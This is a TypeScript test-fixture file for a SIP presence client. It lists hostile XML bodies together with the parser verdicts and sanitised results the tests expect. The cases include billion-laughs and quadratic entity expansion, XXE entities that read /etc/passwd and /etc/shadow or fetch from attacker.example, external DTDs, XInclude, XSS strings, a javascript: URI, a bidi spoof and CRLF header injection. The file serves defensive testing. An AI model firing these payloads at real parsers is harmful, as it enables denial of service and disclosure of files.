// Owns the hostile XML corpus for the presence bodies (issue 15 "Bad input"): classic XML attacks
// (entity expansion, external entities, XInclude), oversized and deeply nested bodies, unknown
// states, wrong namespaces, NUL bytes, invalid UTF-8, markup and script in names, bidi overrides
// and very long names — each with the outcome hostile-xml.test.ts asserts: the reader's verdict,
// the lamp that results, and where relevant the caller shown and the presence status.
import type { LampState } from '../../../src-renderer/src/lib/presence/lamp';
import type { Identity } from '../../../src-renderer/src/lib/presence/dialog-info';
import type { PresenceStatus } from '../../../src-renderer/src/lib/presence/pidf';
import type { XmlErrorCode } from '../../../src-renderer/src/lib/xml/types';

export interface HostileXmlCase {
  name: string;
  body: string | Uint8Array;
  /** parseXml's verdict: 'ok' or the refusal code. */
  xml: XmlErrorCode | 'ok';
  /** The lamp after applying the body as a dialog-info NOTIFY to a fresh lamp. */
  lamp: LampState;
  /** The caller the lamp shows, when it matters. */
  caller?: Identity | null;
  /** The status when the same body arrives as a PIDF NOTIFY. */
  presence?: PresenceStatus;
  /** The note shown for a PIDF body, when it matters. */
  note?: string | null;
}

const DI = 'urn:ietf:params:xml:ns:dialog-info';
const PIDF = 'urn:ietf:params:xml:ns:pidf';
const enc = (s: string): Uint8Array => new TextEncoder().encode(s);

/** A dialog-info document with one dialog whose inside is `inner`. */
function dialogInfo(
  inner: string,
  attrs = 'direction="recipient" call-id="c1" local-tag="l1" remote-tag="r1"',
): string {
  return `<?xml version="1.0"?><dialog-info xmlns="${DI}" version="1" state="full" entity="sip:bob@x"><dialog id="d1" ${attrs}>${inner}</dialog></dialog-info>`;
}

const ringingFrom = (identity: string): string =>
  dialogInfo(`<state>early</state><remote>${identity}</remote>`);

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dialog-info xmlns="${DI}" version="1" state="full" entity="sip:bob@x"><dialog id="&lol9;"><state>early</state></dialog></dialog-info>`;

const MB = 1024 * 1024;

export const HOSTILE_XML: HostileXmlCase[] = [
  // Entity expansion and external entities: refused before anything is expanded or fetched.
  {
    name: 'billion laughs',
    body: BILLION_LAUGHS,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
    presence: 'unknown',
  },
  {
    name: 'billion laughs reference without its DOCTYPE',
    body: dialogInfo('<state>&lol9;</state>'),
    xml: 'undefined-entity',
    lamp: 'unknown',
  },
  {
    name: 'quadratic blowup (one big entity used many times)',
    body: `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(5000)}">]>${dialogInfo(`<state>${'&a;'.repeat(1000)}</state>`)}`,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
  },
  {
    name: 'external entity SYSTEM file:///etc/passwd',
    body: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${dialogInfo('<state>early</state><remote><identity display="&xxe;">sip:a@x</identity></remote>').replace('<?xml version="1.0"?>', '')}`,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
  },
  {
    name: 'external entity SYSTEM http://',
    body: `<!DOCTYPE presence [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><presence xmlns="${PIDF}" entity="sip:a@x"><note>&xxe;</note></presence>`,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
    presence: 'unknown',
  },
  {
    name: 'parameter entity with external DTD',
    body: `<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><dialog-info xmlns="${DI}"/>`,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
  },
  {
    name: 'external DTD subset only',
    body: `<!DOCTYPE dialog-info SYSTEM "http://attacker.example/d.dtd"><dialog-info xmlns="${DI}" version="1" state="full" entity="sip:b@x"/>`,
    xml: 'doctype-forbidden',
    lamp: 'unknown',
  },
  {
    name: 'ENTITY declaration without a DOCTYPE',
    body: `<!ENTITY x SYSTEM "file:///etc/shadow"><dialog-info xmlns="${DI}"/>`,
    xml: 'entity-declaration-forbidden',
    lamp: 'unknown',
  },
  {
    name: 'XInclude is just an element in a foreign namespace (nothing fetched)',
    body: `<dialog-info xmlns="${DI}" xmlns:xi="http://www.w3.org/2001/XInclude" version="1" state="full" entity="sip:b@x"><xi:include href="file:///etc/passwd" parse="text"/></dialog-info>`,
    xml: 'ok',
    lamp: 'idle',
  },
  {
    name: 'stylesheet processing instruction is ignored',
    body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?><dialog-info xmlns="${DI}" version="1" state="full" entity="sip:b@x"/>`,
    xml: 'ok',
    lamp: 'idle',
  },

  // Size, depth, counts.
  {
    name: '1 MB body (a valid document padded with a comment)',
    body: dialogInfo(`<state>early</state><!--${'x'.repeat(MB)}-->`),
    xml: 'too-large',
    lamp: 'unknown',
    presence: 'unknown',
  },
  { name: '1 MB of bytes', body: new Uint8Array(MB).fill(0x20), xml: 'too-large', lamp: 'unknown' },
  {
    name: '100,000 nested elements',
    body: `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`,
    xml: 'too-large',
    lamp: 'unknown',
  },
  {
    name: 'nesting just past the depth limit (small body)',
    body: `<dialog-info xmlns="${DI}" version="1" state="full" entity="sip:b@x">${'<x>'.repeat(40)}${'</x>'.repeat(40)}</dialog-info>`,
    xml: 'too-deep',
    lamp: 'unknown',
  },
  {
    name: '5,000 empty dialogs',
    body: `<dialog-info xmlns="${DI}" version="1" state="full" entity="sip:b@x">${'<dialog/>'.repeat(5000)}</dialog-info>`,
    xml: 'too-many-elements',
    lamp: 'unknown',
  },
  {
    name: 'an element with 1,000 attributes',
    body: `<dialog-info xmlns="${DI}" ${Array.from({ length: 1000 }, (_, i) => `a${i}="x"`).join(' ')}/>`,
    xml: 'too-many-attributes',
    lamp: 'unknown',
  },
  {
    name: 'a 10,000-character element name',
    body: `<dialog-info xmlns="${DI}" version="1" state="full" entity="sip:b@x"><${'n'.repeat(10_000)}/></dialog-info>`,
    xml: 'name-too-long',
    lamp: 'unknown',
  },
  {
    name: 'a 600-character entity (over the URI limit)',
    body: `<dialog-info xmlns="${DI}" version="1" state="full" entity="sip:${'b'.repeat(600)}@x"/>`,
    xml: 'ok',
    lamp: 'unknown',
  },
  {
    name: 'a 5,000-character display name is cut to 128 code points',
    body: ringingFrom(`<identity display="${'A'.repeat(5000)}">sip:a@x</identity>`),
    xml: 'ok',
    lamp: 'ringing',
    caller: { uri: 'sip:a@x', display: `${'A'.repeat(127)}…` },
  },
  {
    name: 'a version number beyond 32 bits',
    body: `<dialog-info xmlns="${DI}" version="99999999999" state="full" entity="sip:b@x"/>`,
    xml: 'ok',
    lamp: 'unknown',
  },

  // Unknown states and wrong namespaces.
  {
    name: 'unknown dialog state',
    body: dialogInfo('<state>on-hold</state>'),
    xml: 'ok',
    lamp: 'unknown',
  },
  { name: 'empty dialog state', body: dialogInfo('<state/>'), xml: 'ok', lamp: 'unknown' },
  { name: 'no state element', body: dialogInfo(''), xml: 'ok', lamp: 'unknown' },
  {
    name: 'unknown document state',
    body: `<dialog-info xmlns="${DI}" version="1" state="everything" entity="sip:b@x"/>`,
    xml: 'ok',
    lamp: 'unknown',
  },
  {
    name: 'dialog-info in a look-alike namespace',
    body: dialogInfo('<state>early</state>').replace(DI, `${DI}-evil`),
    xml: 'ok',
    lamp: 'unknown',
  },
  {
    name: 'dialog-info without a namespace',
    body: dialogInfo('<state>early</state>').replace(` xmlns="${DI}"`, ''),
    xml: 'ok',
    lamp: 'unknown',
  },
  {
    name: 'dialog elements in a foreign namespace are not dialogs',
    body: `<dialog-info xmlns="${DI}" xmlns:e="urn:evil" version="1" state="full" entity="sip:b@x"><e:dialog id="x"><e:state>early</e:state></e:dialog></dialog-info>`,
    xml: 'ok',
    lamp: 'idle',
  },
  {
    name: 'a PIDF document sent as dialog-info',
    body: `<presence xmlns="${PIDF}" entity="sip:a@x"/>`,
    xml: 'ok',
    lamp: 'unknown',
    presence: 'unknown',
  },
  {
    name: 'unbound prefix',
    body: `<di:dialog-info version="1"/>`,
    xml: 'unbound-prefix',
    lamp: 'unknown',
  },
  {
    name: 'duplicate attribute',
    body: `<dialog-info xmlns="${DI}" version="1" version="2" state="full" entity="sip:b@x"/>`,
    xml: 'duplicate-attribute',
    lamp: 'unknown',
  },

  // Bytes and characters.
  {
    name: 'NUL byte in text',
    body: dialogInfo('<state>ea\u0000rly</state>'),
    xml: 'invalid-character',
    lamp: 'unknown',
  },
  {
    name: 'NUL as a character reference',
    body: dialogInfo('<state>early&#0;</state>'),
    xml: 'invalid-character',
    lamp: 'unknown',
  },
  {
    name: 'invalid UTF-8 bytes',
    body: new Uint8Array([...enc(dialogInfo('<state>')), 0xc3, 0x28, ...enc('early</state>')]),
    xml: 'invalid-encoding',
    lamp: 'unknown',
  },
  {
    name: 'overlong UTF-8 encoding of "<"',
    body: new Uint8Array([...enc('<a>'), 0xc0, 0xbc, ...enc('script></a>')]),
    xml: 'invalid-encoding',
    lamp: 'unknown',
  },
  {
    name: 'UTF-8 encoded surrogate',
    body: new Uint8Array([...enc('<a>'), 0xed, 0xa0, 0x80, ...enc('</a>')]),
    xml: 'invalid-encoding',
    lamp: 'unknown',
  },
  {
    name: 'ASCII bytes claiming UTF-16',
    body: enc(`<?xml version="1.0" encoding="UTF-16"?><dialog-info xmlns="${DI}"/>`),
    xml: 'invalid-encoding',
    lamp: 'unknown',
  },
  {
    name: 'random binary',
    body: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00]),
    xml: 'invalid-encoding',
    lamp: 'unknown',
  },
  { name: 'empty body', body: '', xml: 'empty', lamp: 'unknown', presence: 'unknown' },
  {
    name: 'lone surrogate',
    body: dialogInfo('<state>early\uD800</state>'),
    xml: 'invalid-character',
    lamp: 'unknown',
  },

  // Markup, script and bidi in network text: inert text, cleaned.
  {
    name: 'script in a display name stays text',
    body: ringingFrom(
      '<identity display="&lt;script&gt;alert(1)&lt;/script&gt;">sip:a@x</identity>',
    ),
    xml: 'ok',
    lamp: 'ringing',
    caller: { uri: 'sip:a@x', display: '<script>alert(1)</script>' },
  },
  {
    name: 'markup in CDATA where a URI belongs is dropped',
    body: ringingFrom('<identity><![CDATA[<img src=x onerror=alert(1)>]]></identity>'),
    xml: 'ok',
    lamp: 'ringing',
    caller: null,
  },
  {
    name: 'a javascript: caller URI is dropped (identities are sip:, sips: or tel:)',
    body: ringingFrom('<identity display="Click">javascript:alert(1)</identity>'),
    xml: 'ok',
    lamp: 'ringing',
    caller: null,
  },
  {
    name: 'RLO override in a display name is removed',
    body: ringingFrom('<identity display="Invoice&#x202E;fdp.exe">sip:a@x</identity>'),
    xml: 'ok',
    lamp: 'ringing',
    caller: { uri: 'sip:a@x', display: 'Invoicefdp.exe' },
  },
  {
    name: 'controls and line breaks in a display name are flattened',
    body: ringingFrom(
      '<identity display="Bob&#10;&#13;Caller-ID: spoofed&#x85;">sip:a@x</identity>',
    ),
    xml: 'ok',
    lamp: 'ringing',
    caller: { uri: 'sip:a@x', display: 'Bob Caller-ID: spoofed' },
  },
  {
    name: 'a header injection attempt in a tag leaves no pickup',
    body: dialogInfo(
      '<state>early</state>',
      'direction="recipient" call-id="c1" local-tag="l1&#13;&#10;Via: evil" remote-tag="r1"',
    ),
    xml: 'ok',
    lamp: 'ringing',
  },
  {
    name: 'PIDF note with markup and an override stays text, cleaned',
    body: `<presence xmlns="${PIDF}" entity="sip:a@x"><tuple id="t"><status><basic>open</basic></status></tuple><note>&lt;b&gt;Away&lt;/b&gt; &#x202E;kcab noos</note></presence>`,
    xml: 'ok',
    lamp: 'unknown',
    presence: 'available',
    note: '<b>Away</b> kcab noos',
  },
  {
    name: 'PIDF in a look-alike namespace',
    body: `<presence xmlns="${PIDF}:evil" entity="sip:a@x"><tuple id="t"><status><basic>open</basic></status></tuple></presence>`,
    xml: 'ok',
    lamp: 'unknown',
    presence: 'unknown',
  },
];
